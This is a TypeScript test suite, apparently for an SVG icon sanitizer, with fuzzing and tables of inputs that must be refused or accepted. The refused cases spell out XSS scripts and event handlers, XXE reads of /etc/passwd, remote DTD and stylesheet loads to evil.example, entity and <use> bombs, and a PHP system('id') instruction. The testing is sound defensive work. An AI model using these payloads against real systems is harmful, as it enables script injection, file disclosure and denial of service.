import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostileText } from '../svg/testing/scenes.js';
import { cases } from '../testing/depth.js';
import { workOf } from '../testing/work.js';
import { OUTLINE_LIMITS } from './limits.js';
import { readIcon } from './read-icon.js';
import { strayText } from './testing/stray-text.js';

const SHAPE = '<path d="M1 1H9V9z"/>';
const svg = (inner: string, root = 'viewBox="0 0 24 24"'): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${root}>${inner}</svg>`;
const root = (inner: string): string => `<svg viewBox="0 0 24 24">${inner}</svg>`;
const MILLION = '1 '.repeat(1_000_000);
const bomb = Array.from(
  { length: 12 },
  (_, at) => `<g id="b${at + 1}"><use href="#b${at}"/><use href="#b${at}"/></g>`,
).join('');

/** Each with a word of the refusal's message. */
const REFUSED: readonly (readonly [what: string, text: string, named: string])[] = [
  // What runs.
  ['a script', svg(`<script>alert(1)</script>${SHAPE}`), 'script'],
  ['a script in capitals', svg(`<SCRIPT>alert(1)</SCRIPT>${SHAPE}`), 'SCRIPT'],
  ['a script in defs', svg(`<defs><script>alert(1)</script></defs>${SHAPE}`), 'script'],
  ['a script in metadata', svg(`<metadata><Script/></metadata>${SHAPE}`), 'Script'],
  ['a script in a title', svg(`<title><script>alert(1)</script></title>${SHAPE}`), 'script'],
  ['a script in a shape', svg('<path d="M0 0H1"><script>alert(1)</script></path>'), 'script'],
  ['a script with a source', svg(`<script href="https://evil.example/x.js"/>${SHAPE}`), 'script'],
  ['a script in a data reference', svg(`<script xlink:href="data:text/javascript,alert(1)"/>${SHAPE}`), 'script'],
  ['a script under the usual prefix', svg(`<svg:script>alert(1)</svg:script>${SHAPE}`), 'svg:script'],
  [
    'a script under a prefix of its own',
    svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>${SHAPE}`),
    'x:script',
  ],
  ['a script of HTML', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>${SHAPE}`), 'h:script'],
  ['a script after a broken tag', svg(`<path d="M0 0" <script>alert(1)</script>${SHAPE}`), 'does not end'],
  ['a script after a comment that looks closed', svg(`<!-- --!><script>alert(1)</script> -->${SHAPE}<x/>`), 'x'],
  [
    'SVG elements under another prefix',
    svg(`<g xmlns:x="http://www.w3.org/2000/svg"><x:path d="M0 0H1"/></g>${SHAPE}`),
    'prefix',
  ],
  ['onload at the root', svg(SHAPE, 'viewBox="0 0 24 24" onload="alert(1)"'), 'onload'],
  ['onclick on a shape', svg('<path onclick="alert(1)" d="M0 0H1"/>'), 'onclick'],
  ['an event in capitals', svg('<path ONMOUSEOVER="alert(1)" d="M0 0H1"/>'), 'ONMOUSEOVER'],
  ['an event in a hidden part', svg(`<defs><g onfocus="alert(1)"/></defs>${SHAPE}`), 'onfocus'],
  ['an event on an animation', svg(`<animate onbegin="alert(1)" attributeName="x"/>${SHAPE}`), 'animate'],
  ['HTML in the drawing', svg(`<foreignObject><body onload="alert(1)"/></foreignObject>${SHAPE}`), 'foreignObject'],
  ['HTML in lower case', svg(`<foreignobject/>${SHAPE}`), 'foreignobject'],
  ['a frame', svg(`<iframe src="javascript:alert(1)"/>${SHAPE}`), 'iframe'],
  ['an object', svg(`<defs><object data="x.swf"/></defs>${SHAPE}`), 'object'],
  ['an embedded file', svg(`<embed src="x.swf"/>${SHAPE}`), 'embed'],
  ['a handler', svg(`<handler type="application/ecmascript">alert(1)</handler>${SHAPE}`), 'handler'],
  ['a link that runs', svg('<a href="javascript:alert(1)"><path d="M0 0H1"/></a>'), "'a' element"],
  [
    'a link with a line break in its scheme',
    svg('<a xlink:href="java&#10;script:alert(1)"><path d="M0 0H1"/></a>'),
    "'a' element",
  ],
  ['an audio', svg(`<audio src="x.mp3"/>${SHAPE}`), 'audio'],
  ['a video in defs', svg(`<defs><video src="x.mp4"/></defs>${SHAPE}`), 'video'],
  // Animation.
  ['an animated attribute', svg('<path d="M0 0H1"><animate attributeName="d" to="M0 0H9"/></path>'), 'animate'],
  ['a set attribute', svg('<path d="M0 0H1"><set attributeName="href" to="javascript:alert(1)"/></path>'), 'set'],
  ['a motion', svg('<path d="M0 0H1"><animateMotion path="M0 0H9"/></path>'), 'animateMotion'],
  ['an animated transform', svg('<g><animateTransform attributeName="transform"/></g>'), 'animateTransform'],
  ['an animated colour in capitals', svg(`<ANIMATECOLOR/>${SHAPE}`), 'ANIMATECOLOR'],
  ['animations of CSS', svg(`<style>@keyframes a{to{fill:red}}.a{animation:a 1s}</style>${SHAPE}`), 'style sheet'],
  // Entities and declarations.
  ['an entity', `<!DOCTYPE svg [<!ENTITY a "M0 0H1">]>${root('<path d="&a;"/>')}`, 'entities'],
  [
    'an external entity',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${root('<title>&a;</title>')}`,
    'entities',
  ],
  [
    'an entity of parameters',
    `<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>${root(SHAPE)}`,
    'entities',
  ],
  [
    'a bomb of entities',
    `<!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${root('<title>&c;</title>')}`,
    'entities',
  ],
  ['an entity in lower case', `<!doctype svg [<!entity a "b">]>${root(SHAPE)}`, 'entities'],
  ['an entity with a line break', `<!DOCTYPE\nsvg\n[\n<!ENTITY a "b">\n]>${root(SHAPE)}`, 'entities'],
  ['an entity without a DOCTYPE', `<!ENTITY a "b">${root(SHAPE)}`, 'entities'],
  ['attributes by a DOCTYPE', `<!DOCTYPE svg [<!ATTLIST path onload CDATA "alert(1)">]>${root(SHAPE)}`, 'entities'],
  ['an entity in a colour', root('<path fill="&red;" d="M0 0H1"/>'), 'fill'],
  ['an entity in path data', root('<path d="&a;"/>'), 'outline'],
  [
    'a style sheet by an instruction',
    `<?xml-stylesheet href="https://evil.example/x.css"?>${root(SHAPE)}`,
    'xml-stylesheet',
  ],
  ['a program in an instruction', `${root(`<?php system("id") ?>${SHAPE}`)}`, 'php'],
  // What loads.
  ['an image', svg('<image href="https://evil.example/x.png" width="9" height="9"/>'), 'image'],
  ['an image in a data reference', svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>'), 'image'],
  ['an image in capitals', svg('<IMAGE href="https://evil.example/x.png"/>'), 'IMAGE'],
  ['a use of another file', svg('<use href="https://evil.example/x.svg#a"/>'), 'use'],
  ['a use of a data reference', svg('<use xlink:href="data:image/svg+xml,%3Csvg id=%22a%22/%3E#a"/>'), 'use'],
  ['a use of a file beside it', svg('<use href="x.svg#a"/>'), 'use'],
  ['a use of nothing', svg('<use href="#"/>'), 'use'],
  ['a use of an encoded reference', svg('<path id="a" d="M0 0H1"/><use href="&#35;a"/>'), 'use'],
  ['a use of an image', svg('<defs><image id="a" href="https://evil.example/x.png"/></defs><use href="#a"/>'), 'image'],
  [
    'a use of a link',
    svg('<defs><a id="a" href="javascript:alert(1)"><path d="M0 0H1"/></a></defs><use href="#a"/>'),
    "'a' element",
  ],
  ['a fill from another file', svg('<path fill="url(https://evil.example/x.svg#a)" d="M0 0H1"/>'), 'fill'],
  ['a fill in a style', svg('<path style="fill:url(//evil.example)" d="M0 0H1"/>'), 'fill'],
  ['a fill with a fallback', svg('<path fill="url(https://evil.example) #fff" d="M0 0H1"/>'), 'fill'],
  [
    'a fill by a pattern',
    svg(
      '<defs><pattern id="p"><image href="https://evil.example/x.png"/></pattern></defs><path fill="url(#p)" d="M0 0H1"/>',
    ),
    'fill',
  ],
  ['a stroke from another file', svg('<path stroke="url(data:image/png;base64,AA)" d="M0 0H1"/>'), 'stroke'],
  ['a filter from another file', svg('<path filter="url(https://evil.example/f.svg#f)" d="M0 0H1"/>'), 'filter'],
  [
    'a filter that loads',
    svg(
      '<defs><filter id="f"><feImage href="https://evil.example/x.png"/></filter></defs><path style="filter:url(#f)" d="M0 0H1"/>',
    ),
    'filter',
  ],
  ['a mask from another file', svg('<path mask="url(https://evil.example/m.svg#m)" d="M0 0H1"/>'), 'mask'],
  ['a clip from another file', svg('<path clip-path="url(https://evil.example/m.svg#m)" d="M0 0H1"/>'), 'clip-path'],
  ['a marker', svg('<path marker-end="url(https://evil.example/m.svg#m)" d="M0 0H1"/>'), 'marker-end'],
  [
    'a linked file',
    svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>${SHAPE}`),
    'link',
  ],
  ['a style sheet that imports', svg(`<style>@import url(https://evil.example/x.css);</style>${SHAPE}`), 'style sheet'],
  ['a style sheet that imports, escaped', svg(`<style>\\40 import "x.css";</style>${SHAPE}`), 'style sheet'],
  [
    'a style sheet in defs',
    svg(`<defs><style>*{background:url(https://evil.example)}</style></defs>${SHAPE}`),
    'style sheet',
  ],
  [
    'a style sheet with a font',
    svg(`<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style>${SHAPE}`),
    'style sheet',
  ],
  [
    'a style sheet that guesses values',
    svg(`<style>path[d^="M"]{fill:url(https://evil.example)}</style>${SHAPE}`),
    'style sheet',
  ],
  [
    'a class filled from another file',
    svg('<style>.a{fill:url(https://evil.example)}</style><path class="a" d="M0 0H1"/>'),
    'fill',
  ],
  ['an expression', svg('<path style="fill:expression(alert(1))" d="M0 0H1"/>'), 'fill'],
  ['a variable', svg('<path style="--a:red;fill:var(--a)" d="M0 0H1"/>'), 'fill'],
  ['a style sheet that is markup', svg(`<style><b>.a{}</b></style>${SHAPE}`), 'style sheet'],
  ['a style sheet that closes itself in a comment', svg(`<style>.a{}/*</style>${SHAPE}`), 'style sheet'],
  ['a font', svg('<font><glyph d="M0 0H1"/></font>'), 'font'],
  ['lettering', svg('<text font-family="url(https://evil.example)">a</text>'), 'text'],
  // What is not one SVG.
  ['an empty file', '', 'not an SVG'],
  ['a page', `<html><body>${svg(SHAPE)}</body></html>`, 'not an SVG'],
  ['a page with a DOCTYPE', `<!DOCTYPE html><script>alert(1)</script>`, 'script'],
  ['a GIF in front', `GIF89a/*${svg(SHAPE)}*/`, 'not an SVG'],
  ['a PDF in front', `%PDF-1.4\n${svg(SHAPE)}`, 'not an SVG'],
  ['a program in front', `=1;alert(1)//${svg(SHAPE)}`, 'not an SVG'],
  ['two drawings', svg(SHAPE) + svg(SHAPE), 'not an SVG'],
  ['a script behind', `${svg(SHAPE)}<script>alert(1)</script>`, 'script'],
  [
    'a prefix at the root',
    `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><svg:path d="M0 0H1"/></svg:svg>`,
    'not an SVG',
  ],
  ['capitals at the root', `<SVG viewBox="0 0 9 9">${SHAPE}</SVG>`, 'not an SVG'],
  [
    'another language at the root',
    `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">${SHAPE}</svg>`,
    'another language',
  ],
  ['another language inside', svg(`<g xmlns="http://www.w3.org/1999/xhtml">${SHAPE}</g>`), 'another language'],
  ['a nested drawing', svg(`<svg viewBox="0 0 1 1">${SHAPE}</svg>`), 'svg'],
  ['a null byte', svg(`<path d="M0 0H1\u0000"/>`), 'control characters'],
  ['a null byte in a name', svg(`<scr\u0000ipt>alert(1)</scr\u0000ipt>${SHAPE}`), 'control characters'],
  ['UTF-16 read as UTF-8', `\ufffd\ufffd<\u0000s\u0000v\u0000g\u0000`, 'control characters'],
  ['UTF-16 with its bytes swapped', `\ufffe${svg(SHAPE)}`, 'control characters'],
  ['an open tag', `<svg viewBox="0 0 9 9"><g>${SHAPE}`, 'not closed'],
  ['crossed tags', root(`<g><defs></g></defs>${SHAPE}`), 'not closed'],
  ['an end tag too many', `${root(SHAPE)}</svg>`, 'not open'],
  ['a tag without an end', `<svg viewBox="0 0 9 9"><path d="M0 0H1"`, 'does not end'],
  ['a comment without an end', `<svg viewBox="0 0 9 9"><!-- ${SHAPE}</svg>`, 'not closed'],
  ['a CDATA section without an end', `<svg viewBox="0 0 9 9"><![CDATA[ ${SHAPE}</svg>`, 'not closed'],
  ['an attribute twice', svg('<path d="M0 0H1" d="M0 0H9"/>'), 'each once'],
  ['an attribute without quotes', svg('<path d=M0,0H1 />'), 'name="value"'],
  ['an attribute without a value', svg('<path d="M0 0H1" hidden/>'), 'name="value"'],
  ['a quote too many', svg('<path d="M0 0H1""/>'), 'name="value"'],
  ['a slash in a tag', svg('<path/onload="alert(1)" d="M0 0H1"/>'), 'name="value"'],
  ['a tag without a name', svg(`< path d="M0 0H1"/>${SHAPE}`), 'name="value"'],
  // What takes long or is far away.
  ['a bomb of uses', svg(`<path id="b0" d="M0 0H1"/>${bomb}<use href="#b12"/>`), 'more than 500'],
  [
    'very many uses of a long outline outside the box',
    svg(`<path id="a" d="M0 0${'h1v1'.repeat(1900)}"/>${'<use href="#a" x="999"/>'.repeat(490)}`),
    'commands',
  ],
  ['a use of itself', svg('<use id="a" href="#a"/>'), 'contains it'],
  ['a use of its group', svg('<g id="a"><use href="#a"/></g>'), 'contains it'],
  ['a use of the whole', svg('<use href="#a"/>', 'id="a" viewBox="0 0 9 9"'), 'contains it'],
  ['two uses of each other', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), 'contains it'],
  ['a million numbers', svg(`<path d="M0 0 ${MILLION}"/>`), 'characters'],
  ['a million spaces', ' '.repeat(1_000_000), 'characters'],
  [
    'a flood of attributes',
    `<svg ${Array.from({ length: 20_000 }, (_, at) => `a${at}="b"`).join(' ')}/>`,
    'characters',
  ],
  ['very many commands', svg(`<path d="M0 0${'h1'.repeat(5000)}"/>`), 'outline'],
  ['very many elements', svg(SHAPE.repeat(600)), 'elements'],
  ['very many groups', svg(`${'<g>'.repeat(200)}${'</g>'.repeat(200)}`), 'nested'],
  ['very many rules', svg(`<style>${'.a{}'.repeat(600)}</style>${SHAPE}`), 'style sheet'],
  [
    'very many stops',
    svg(
      `<linearGradient id="g">${'<stop stop-color="red"/>'.repeat(99)}</linearGradient><path fill="url(#g)" d="M0 0H1"/>`,
    ),
    'fill',
  ],
  ['NaN', svg('<path d="M0 0LNaN 1"/>'), 'outline'],
  ['Infinity', svg('<path d="M0 0LInfinity 1"/>'), 'outline'],
  ['1e999', svg('<path d="M0 0L1e999 1"/>'), 'outline'],
  ['numbers far away', svg('<path d="M0 0L1e7 1"/>'), 'outline'],
  ['a rectangle of NaN', svg('<rect width="NaN" height="1"/>'), 'outline'],
  ['a circle of Infinity', svg('<circle r="1e999"/>'), 'outline'],
  ['points of words', svg('<polygon points="a b c"/>'), 'outline'],
  ['a stroke of Infinity', svg('<path stroke-width="1e999" stroke="red" d="M0 0H1"/>'), 'stroke-width'],
  ['a negative stroke', svg('<path stroke-width="-1" stroke="red" d="M0 0H1"/>'), 'stroke-width'],
  ['a huge transform', svg('<path transform="scale(1e300)" d="M0 0H1"/>'), 'outline'],
  [
    'huge transforms that cancel each other',
    svg('<g transform="scale(1e300)"><g transform="scale(1e300)"><path transform="scale(0)" d="M0 0H1"/></g></g>'),
    'outline',
  ],
  ['a transform of NaN', svg('<path transform="matrix(NaN 0 0 1 0 0)" d="M0 0H1"/>'), 'transform'],
  ['a transform with code', svg('<path transform="translate(1);alert(1)" d="M0 0H1"/>'), 'transform'],
  ['very many transforms', svg(`<path transform="${'scale(1)'.repeat(99)}" d="M0 0H1"/>`), 'transform'],
  ['a negative viewBox', svg(SHAPE, 'viewBox="0 0 -24 -24"'), 'viewBox'],
  ['a viewBox without size', svg(SHAPE, 'viewBox="0 0 0 0"'), 'viewBox'],
  ['a viewBox of Infinity', svg(SHAPE, 'viewBox="0 0 1e999 1e999"'), 'viewBox'],
  ['a viewBox of five numbers', svg(SHAPE, 'viewBox="0 0 24 24 24"'), 'viewBox'],
  ['a viewBox in hexadecimal', svg(SHAPE, 'viewBox="0 0 0x18 0x18"'), 'viewBox'],
  ['a viewBox far away', svg(SHAPE, 'viewBox="1e300 0 24 24"'), 'outline'],
  ['only CDATA', svg(`<![CDATA[${SHAPE}]]>`), 'nothing'],
  ['only a comment', svg(`<!--${SHAPE}-->`), 'nothing'],
  ['only text', svg('M0 0H1'), 'nothing'],
];

/** Drawn without what could do harm. */
const HARMLESS: readonly (readonly [what: string, text: string])[] = [
  [
    'a public DOCTYPE',
    `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg(SHAPE)}`,
  ],
  ['a byte order mark', `\ufeff${svg(SHAPE)}`],
  ['markup in a comment', svg(`<!-- <script>alert(1)</script> ]]> <!ENTITY a "b"> -->${SHAPE}`)],
  ['markup in a CDATA section', svg(`<![CDATA[<script>alert(1)</script>]]>${SHAPE}`)],
  ['markup in a title', svg(`<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>${SHAPE}`)],
  ['markup in an attribute', svg('<path id="&quot;&gt;&lt;script&gt;" class="<script>alert(1)</script>" d="M1 1H9"/>')],
  ['a PDF in a comment', `<!-- %PDF-1.4 -->${svg(SHAPE)}`],
  ['a program behind', `${svg(SHAPE)}<!-- */alert(1) -->`],
  ['a reference on a path', svg('<path href="javascript:alert(1)" xml:base="https://evil.example" d="M1 1H9"/>')],
  [
    'a base elsewhere',
    svg('<path id="a" d="M1 1H9"/><use href="#a"/>', 'viewBox="0 0 24 24" xml:base="https://evil.example/"'),
  ],
  ['a background', svg('<path style="background:url(https://evil.example);fill:red" d="M1 1H9"/>')],
  ['a property with a reference', svg('<path style="cursor:url(https://evil.example),auto" d="M1 1H9"/>')],
  ['a class that animates', svg('<style>.a{animation:b 1s;cursor:url(x)}</style><path class="a" d="M1 1H9"/>')],
  [
    'an unused pattern in defs',
    svg(`<defs><pattern id="p"><image href="https://evil.example/x.png"/></pattern></defs>${SHAPE}`),
  ],
  [
    'an unused filter in defs',
    svg(`<defs><filter id="f"><feImage href="https://evil.example/x.png"/></filter></defs>${SHAPE}`),
  ],
  ["an editor's elements", svg(`<sodipodi:namedview><inkscape:grid/></sodipodi:namedview>${SHAPE}`)],
  ['a shape far outside its box', svg(`<path d="M-999999 -999999H999999V999999H-999999z"/>`)],
  [
    'a gradient that takes from itself',
    svg(
      '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"><stop stop-color="red"/><stop offset="1" stop-color="lime"/></linearGradient><path fill="url(#a)" d="M1 1H9V9"/>',
    ),
  ],
  [
    'words of prototypes',
    svg('<g id="__proto__" class="constructor"/><path id="constructor" d="M1 1H9"/><use href="#constructor"/>'),
  ],
  ['an opacity of 1e999', svg('<path opacity="1e999" d="M1 1H9"/>')],
  ['very flat arcs', svg('<path d="M1 1A1e-300 1e300 0 0 1 9 9"/>')],
];

describe('a hostile file', () => {
  it.each(REFUSED)('is rejected by name: %s', (_, text, named) => {
    expect(readIcon(text)).toMatchObject({
      ok: false,
      message: expect.stringContaining(named),
      hint: expect.stringMatching(/\w/),
    });
  });

  it.each(HARMLESS)('is path data and colours: %s', (_, text) => {
    const result = readIcon(text);
    if (!result.ok) throw new Error(result.message);
    expect(strayText(result.art)).toEqual([]);
    expect(result.art.shapes.length).toBeGreaterThan(0);
  });
});

describe('any file', () => {
  const valid = fc.constantFrom(
    ...HARMLESS.map(([, text]) => text),
    svg(
      '<style>.a{fill:red}</style><defs><linearGradient id="g"><stop stop-color="red"/><stop offset="1" stop-color="blue"/></linearGradient><clipPath id="c"><rect width="9" height="9"/></clipPath></defs>' +
        '<g clip-path="url(#c)" transform="rotate(5)"><circle id="b" class="a" r="4" stroke="#123" stroke-width="2"/><path fill="url(#g)" d="M0 0C1 2 3 4 5 6S7 8 9 1A2 2 0 0 1 3 3z"/></g><use href="#b" x="3"/>',
    ),
  );
  const fragment = fc.oneof(
    hostileText,
    fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        '/>',
        '</g>',
        '<g>',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<?x?>',
        '&#0;',
        'e999',
        '-',
        ' 1e308 ',
        'NaN',
      ],
      ...[
        'url(https://evil.example)',
        'url(#g)',
        ' onload="x"',
        ' style="fill:url(x)"',
        '<use href="#b"/>',
        ' d="M0 0"',
        '{',
        '}',
      ],
    ),
    fc.constantFrom(...REFUSED.map(([, text]) => text).filter((text) => text.length < 1000)),
  );
  const splice = fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), cut: fc.nat(30), fragment });

  it('is rejected with a message and a hint, or is path data and colours, after any change', () => {
    fc.assert(
      fc.property(valid, fc.array(splice, { minLength: 1, maxLength: 4 }), (text, splices) => {
        let changed = text;
        for (const { at, cut, fragment: inserted } of splices) {
          const from = Math.floor(at * changed.length);
          changed = changed.slice(0, from) + inserted + changed.slice(from + cut);
        }
        const result = readIcon(changed);
        if (result.ok) expect(strayText(result.art)).toEqual([]);
        else expect([result.message, result.hint].every((each) => each !== '' && each.length < 300)).toBe(true);
      }),
      { numRuns: cases(5000) },
    );
  });

  const whole = (inner: string): string => `<svg viewBox="0 0 24 24">${inner}</svg>`;
  it.each<[what: string, of: (length: number) => string]>([
    ['starts of tags', (length) => '<'.repeat(length)],
    ['starts of DOCTYPEs', (length) => '<!DOCTYPE '.repeat(length / 10)],
    ['starts of comments', (length) => whole('<!--'.repeat(length / 4))],
    ['starts of CDATA sections', (length) => whole('<![CDATA['.repeat(length / 9))],
    [
      'attributes',
      (length) => whole(`<path ${Array.from({ length: length / 8 }, (_, at) => `a${at}=""`).join(' ')}/>`),
    ],
    ['quotes', (length) => whole(`<path d=${'"'.repeat(length)}/>`)],
    ['digits of a length', (length) => whole(`<rect width="${'1'.repeat(length)}x"/>`)],
    ['digits of an opacity', (length) => whole(`<path opacity="${'1'.repeat(length)}x" d="M0 0H1"/>`)],
    ['digits of a path', (length) => whole(`<path d="M${'1'.repeat(length)}"/>`)],
    ['spaces of a path', (length) => whole(`<path d="M0 0${' '.repeat(length)}"/>`)],
    ['spaces of a transform', (length) => whole(`<path transform="${' '.repeat(length)}x" d="M0 0"/>`)],
    ['spaces of a viewBox', (length) => `<svg viewBox="0${' '.repeat(length)}"/>`],
    ['brackets of a colour', (length) => whole(`<path fill="${'rgb('.repeat(length / 4)}" d="M0 0"/>`)],
    ['declarations', (length) => whole(`<path style="${'fill:red;'.repeat(length / 9)}" d="M0 0H1"/>`)],
    ['comments of a style sheet', (length) => whole(`<style>${'/*'.repeat(length / 2)}</style>`)],
    ['braces of a style sheet', (length) => whole(`<style>${'{'.repeat(length)}</style>`)],
    ['classes', (length) => whole(`<path class="${'a '.repeat(length / 2)}" d="M0 0H1"/>`)],
    ['commands', (length) => whole(`<path d="M0 0${'h1'.repeat(length / 2)}"/>`)],
    ['arcs', (length) => whole(`<path d="M0 0${'a9 9 0 0 1 1 1'.repeat(length / 14)}"/>`)],
    ['end tags', (length) => whole('</g>'.repeat(length / 4))],
  ])('takes work proportional to its length: %s', (_, of) => {
    const [quarter, full] = [OUTLINE_LIMITS.characters / 8, OUTLINE_LIMITS.characters / 2].map((length) =>
      workOf(() => {
        readIcon(of(Math.floor(length)));
      }),
    );
    expect(full).toBeLessThan(6 * (quarter ?? 0) + 20_000);
  });
});
